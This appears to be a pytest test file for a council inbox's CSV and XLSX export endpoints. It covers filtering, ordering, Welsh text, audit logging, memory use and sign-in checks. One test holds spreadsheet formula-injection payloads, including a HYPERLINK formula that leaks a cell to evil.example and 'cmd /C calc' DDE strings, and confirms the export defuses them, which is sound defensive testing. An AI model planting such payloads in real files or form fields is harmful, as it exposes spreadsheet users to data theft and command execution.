"""The inbox downloads: /inbox/export.csv and /inbox/export.xlsx."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, date, datetime, timedelta

import pytest
from bs4 import BeautifulSoup
from openpyxl import load_workbook
from sqlalchemy import insert, select

from app.core.audit import AuditEvent
from app.inbox import exports
from app.inbox.models import InboxItem
from app.inbox.search import PER_PAGE
from app.inbox.services import file_submission, set_tags
from tests.serving import serve

START = datetime(2026, 3, 1, 9, 30, tzinfo=UTC)


def _filed(session, **kwargs):
    defaults = {"kind": "challenge", "subject": "Running the Greenway centre"}
    item = file_submission(session, **{**defaults, **kwargs})
    session.commit()
    return item


def _bulk(session, count: int, first: int = 0, body: str = "", **values) -> None:
    """Many items at once, without the services' per-item queries."""
    session.execute(
        insert(InboxItem),
        [
            {
                "reference": f"SRV-2026-{number:06d}",
                "kind": "survey_response",
                "subject": f"Survey answer {number}",
                "received_at": START + timedelta(seconds=number),
                "status": "new",
                "submitter_name": f"Resident {number}",
                "submitter_email": f"resident{number}@example.org",
                "submitter_locale": "en",
                "body_text": body or f"Answer number {number}",
                "urgent": False,
                "safeguarding": False,
                **values,
            }
            for number in range(first, first + count)
        ],
    )
    session.commit()


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.mimetype == "text/csv"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff"), "no BOM: Excel would misread the Welsh letters"
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx(response) -> list[list]:
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    workbook = load_workbook(io.BytesIO(response.data))
    sheet = workbook.worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula"
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _column(rows: list[list], name: str) -> list:
    index = rows[0].index(name)
    return [row[index] for row in rows[1:]]


def test_the_csv_has_a_header_and_one_row_per_item_with_readable_values(
    client, session, area, sign_in, make_staff
):
    colleague = make_staff("commissioner", email="sam@elmsworth.gov.example")
    sign_in("viewer")
    item = _filed(
        session,
        kind="consultation_response",
        subject="Day centre hours",
        service_area=area,
        submitter_name="Ann Jones",
        submitter_email="ann@example.org",
        body_text="Please keep Saturday openings.\nThank you.",
        urgent=True,
        received_at=datetime(2026, 7, 1, 11, 15, tzinfo=UTC),
    )
    item.assignee_id = colleague.id
    item.due_on = date(2026, 7, 15)
    item.status = "in_progress"
    set_tags(session, item, ["transport", "cost of living"])
    session.commit()
    _filed(session, subject="Another")

    response = client.get("/inbox/export.csv")
    rows = _csv(response)
    assert rows[0] == [
        "Reference",
        "Kind",
        "Subject",
        "Service area",
        "Received",
        "Status",
        "Assigned to",
        "Due date",
        "Urgent",
        "Safeguarding",
        "Themes",
        "Submitter name",
        "Submitter email",
        "Language",
        "Submission text",
    ]
    assert len(rows) == 3
    assert rows[2] == [
        item.reference,
        "Consultation response",
        "Day centre hours",
        "Adult social care",
        "2026-07-01T12:15:00+01:00",  # London summer time, as the list shows it
        "In progress",
        colleague.name,
        "2026-07-15",
        "Yes",
        "No",
        "cost of living, transport",
        "Ann Jones",
        "ann@example.org",
        "English",
        "Please keep Saturday openings.\nThank you.",
    ]
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="inbox-')
    assert disposition.endswith('.csv"')
    assert response.headers["Cache-Control"] == "no-store"


def test_the_export_follows_the_list_filters(client, session, sign_in):
    user = sign_in("commissioner")
    _filed(session, kind="challenge", subject="Library challenge", body_text="library hours")
    _filed(session, kind="challenge", subject="Pool challenge", body_text="swimming pool")
    survey = _filed(session, kind="survey_response", subject="Library survey")
    closed = _filed(session, kind="challenge", subject="Closed library challenge")
    closed.status = "closed"
    mine = _filed(session, kind="event_booking", subject="My booking")
    mine.assignee_id = user.id
    set_tags(session, survey, ["libraries"])
    set_tags(session, closed, ["libraries", "opening hours"])
    session.commit()

    def subjects(query: str) -> set[str]:
        return set(_column(_csv(client.get("/inbox/export.csv" + query)), "Subject"))

    assert subjects("?kind=challenge") == {
        "Library challenge",
        "Pool challenge",
        "Closed library challenge",
    }
    assert subjects("?kind=challenge&status=closed") == {"Closed library challenge"}
    assert subjects("?q=LIBRARY") == {
        "Library challenge",
        "Library survey",
        "Closed library challenge",
    }
    assert subjects("?q=library&status=new&kind=challenge") == {"Library challenge"}
    assert subjects("?assignee=me") == {"My booking"}
    assert subjects("?tag=Libraries") == {"Library survey", "Closed library challenge"}
    assert subjects(f"?q={survey.reference}") == {"Library survey"}
    # A page cursor from the list does not cut the export short.
    assert len(subjects("?after=1-1")) == 5
    assert _csv(client.get("/inbox/export.csv?kind=supplier_registration")) == [
        _csv(client.get("/inbox/export.csv"))[0]
    ]


def _list_references(client, query: str) -> list[str]:
    seen, url = [], "/inbox/" + query
    while url:
        page = BeautifulSoup(client.get(url).text, "html.parser")
        seen += [row.select("td")[0].get_text(strip=True) for row in page.select("tbody tr")]
        link = page.select_one(".govuk-pagination__next a")
        url = link["href"] if link else None
    return seen


@pytest.mark.parametrize("sort", ["received", "oldest", "due"])
def test_every_item_is_exported_once_in_the_lists_order(
    client, session, sign_in, monkeypatch, sort
):
    sign_in("viewer")
    count = 2 * PER_PAGE + 20
    # Times shared by three items and due dates shared (or missing) by many:
    # the order's tie-breaks must carry across batch boundaries.
    _bulk(session, count)
    for item in session.scalars(select(InboxItem)):
        number = int(item.reference[-6:])
        item.received_at = START + timedelta(minutes=number // 3)
        item.due_on = date(2027, 1, 1) + timedelta(days=number // 4) if number % 5 else None
    session.commit()
    monkeypatch.setattr(exports, "BATCH_SIZE", 7)

    expected = _list_references(client, f"?sort={sort}")
    assert len(expected) == count
    csv_refs = _column(_csv(client.get(f"/inbox/export.csv?sort={sort}")), "Reference")
    xlsx_refs = _column(_xlsx(client.get(f"/inbox/export.xlsx?sort={sort}")), "Reference")
    assert csv_refs == expected
    assert xlsx_refs == expected


DANGEROUS = {
    "subject": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "submitter_name": "+44 7700 900123",
    "submitter_email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "body_text": "-2+3+cmd|' /C calc'!A0",
}


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(client, session, sign_in):
    sign_in("viewer")
    _filed(session, **DANGEROUS)
    _filed(session, subject="\t=1+1", submitter_name="Plain name", body_text="\r=1+1")

    for rows in (_csv(client.get("/inbox/export.csv")), _xlsx(client.get("/inbox/export.xlsx"))):
        item = dict(zip(rows[0], rows[2], strict=True))
        assert item["Subject"] == "'" + DANGEROUS["subject"]
        assert item["Submitter name"] == "'" + DANGEROUS["submitter_name"]
        assert item["Submitter email"] == "'" + DANGEROUS["submitter_email"]
        assert item["Submission text"] == "'" + DANGEROUS["body_text"]
        other = dict(zip(rows[0], rows[1], strict=True))
        assert other["Subject"] == "'\t=1+1"
        assert other["Submitter name"] == "Plain name"
        for cell in rows[1] + rows[2]:
            assert not str(cell or "").startswith(("=", "+", "-", "@", "\t", "\r"))


def test_welsh_text_survives_and_welsh_readers_get_welsh_labels(client, session, area, sign_in):
    sign_in("viewer")
    text = "Diolch am y cyfle. Mae’r ŵyl yn bwysig i’n pentref ☺"
    _filed(
        session,
        kind="consultation_response",
        subject="Ymateb i’r ymgynghoriad ar ofal cartref",
        service_area=area,
        submitter_name="Siân Llŷr",
        submitter_locale="cy",
        body_text=text,
    )

    english = dict(zip(*_csv(client.get("/inbox/export.csv")), strict=True))
    assert english["Submitter name"] == "Siân Llŷr"
    assert english["Subject"] == "Ymateb i’r ymgynghoriad ar ofal cartref"
    assert english["Submission text"] == text
    assert english["Language"] == "Cymraeg"
    assert english["Service area"] == "Adult social care"

    for rows in (
        _csv(client.get("/inbox/export.csv?lang=cy")),
        _xlsx(client.get("/inbox/export.xlsx?lang=cy")),
    ):
        welsh = dict(zip(*rows, strict=True))
        assert welsh["Cyfeirnod"].startswith("CON-")
        assert welsh["Maes gwasanaeth"] == "Gofal oedolion"
        assert welsh["Statws"] == "Newydd"
        assert welsh["Math"] != "Consultation response"
        assert text in welsh.values()


def test_the_spreadsheet_has_the_same_rows_with_real_dates(client, session, area, sign_in):
    sign_in("viewer")
    item = _filed(
        session,
        subject="Greenway",
        service_area=area,
        received_at=datetime(2026, 1, 10, 14, 5, 9, 123456, tzinfo=UTC),
        body_text="Line one\x0bline two\x1b",  # pasted from a word processor
    )
    item.due_on = date(2026, 2, 1)
    session.commit()
    _bulk(session, 30)

    csv_rows = _csv(client.get("/inbox/export.csv"))
    response = client.get("/inbox/export.xlsx")
    assert response.headers["Content-Disposition"].endswith('.xlsx"')
    assert response.headers["Content-Length"] == str(len(response.data))
    xlsx_rows = _xlsx(response)
    assert xlsx_rows[0] == csv_rows[0]
    assert len(xlsx_rows) == len(csv_rows) == 32
    assert _column(xlsx_rows, "Reference") == _column(csv_rows, "Reference")
    assert _column(xlsx_rows, "Subject") == _column(csv_rows, "Subject")
    greenway = dict(zip(xlsx_rows[0], xlsx_rows[-1], strict=True))
    assert greenway["Received"].isoformat() == "2026-01-10T14:05:09"  # London, no zone
    assert greenway["Due date"].isoformat() == "2026-02-01T00:00:00"
    # Word's manual line break stays a line break; other control characters go.
    assert greenway["Submission text"] == "Line one\nline two"
    assert greenway["Service area"] == "Adult social care"


def test_every_export_is_in_the_audit_log_before_the_download_starts(client, session, sign_in):
    user = sign_in("viewer")
    _filed(session, subject="Library challenge", body_text="library")

    response = client.get("/inbox/export.csv?kind=challenge&q=library", buffered=False)
    events = session.scalars(select(AuditEvent).where(AuditEvent.action == "inbox.export")).all()
    assert len(events) == 1, "the export was not recorded before its rows were sent"
    response.close()
    client.get("/inbox/export.xlsx?status=closed&sort=oldest")

    session.expire_all()
    events = session.scalars(
        select(AuditEvent).where(AuditEvent.action == "inbox.export").order_by(AuditEvent.id)
    ).all()
    assert [(e.actor_email, e.object_type) for e in events] == [
        (user.email, "inbox_item"),
        (user.email, "inbox_item"),
    ]
    assert events[0].details == {
        "filters": {"kind": "challenge", "q": "library"},
        "format": "csv",
    }
    assert events[1].details == {
        "filters": {"status": "closed", "sort": "oldest"},
        "format": "xlsx",
    }


@pytest.mark.parametrize("url", ["/inbox/export.csv", "/inbox/export.xlsx"])
def test_only_signed_in_staff_can_export(client, session, sign_in, url):
    _filed(session, submitter_email="private@example.org")
    anonymous = client.get(url)
    assert anonymous.status_code == 302
    assert "/staff/sign-in" in anonymous.headers["Location"]
    assert b"private@example.org" not in anonymous.data
    assert (
        session.scalars(select(AuditEvent).where(AuditEvent.action == "inbox.export")).all() == []
    )

    sign_in("viewer")
    assert client.get(url).status_code == 200


def _peak_while_downloading(client, url: str) -> tuple[int, int]:
    """Bytes downloaded and the peak memory traced while producing them,
    reading the body a piece at a time as a browser would."""
    tracemalloc.start()
    try:
        response = client.get(url, buffered=False)
        assert response.status_code == 200
        size = sum(len(chunk) for chunk in response.response)
        response.close()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return size, peak


@pytest.mark.parametrize("url", ["/inbox/export.csv", "/inbox/export.xlsx"])
def test_memory_stays_flat_however_many_items_are_exported(
    client, session, sign_in, monkeypatch, url
):
    sign_in("viewer")
    monkeypatch.setattr(exports, "BATCH_SIZE", 200)
    body = "A long answer about the service. " * 20  # about 700 characters
    _bulk(session, 500, body=body)
    _peak_while_downloading(client, url)  # warm up caches and lazy imports
    small_size, small_peak = _peak_while_downloading(client, url)
    _bulk(session, 4500, first=500, body=body)
    large_size, large_peak = _peak_while_downloading(client, url)

    assert large_size > 5 * small_size
    # Ten times the items; holding them all would take ten times the memory.
    assert large_peak < 3 * small_peak, (small_peak, large_peak)


def test_queries_grow_with_batches_never_with_rows(
    client, session, sign_in, count_queries, monkeypatch
):
    sign_in("viewer")
    monkeypatch.setattr(exports, "BATCH_SIZE", 50)
    _bulk(session, 40)
    for item in session.scalars(select(InboxItem)):
        set_tags(session, item, ["theme a", "theme b"])
    session.commit()
    one_batch = count_queries(lambda: client.get("/inbox/export.csv"))
    _bulk(session, 100, first=40)
    for item in session.scalars(select(InboxItem)):
        if not item.tags:
            set_tags(session, item, ["theme c"])
    session.commit()
    three_batches = count_queries(lambda: client.get("/inbox/export.csv"))
    # Two queries per batch of 50 (the items, then their themes).
    assert three_batches.count == one_batch.count + 2 * 2
    rows = _csv(client.get("/inbox/export.csv"))
    assert len(rows) == 141
    assert set(_column(rows, "Themes")) == {"theme a, theme b", "theme c"}


@pytest.mark.parametrize("url", ["/inbox/export.csv", "/inbox/export.xlsx"])
def test_a_searched_export_downloads_when_served_as_a_server_would(
    app, client, session, sign_in, url
):
    """Rows are read after the view has returned, when a real server sends
    the body and Flask's contexts are gone."""
    sign_in("viewer")
    _filed(session, subject="Library challenge", body_text="library hours")
    _filed(session, subject="Pool challenge", body_text="swimming pool")

    status, _headers, body = serve(app, url + "?q=library", client)

    assert status == 200
    if url.endswith(".csv"):
        rows = list(csv.reader(io.StringIO(body.decode("utf-8").lstrip("\ufeff"))))
    else:
        sheet = load_workbook(io.BytesIO(body)).worksheets[0]
        rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert _column(rows, "Subject") == ["Library challenge"]
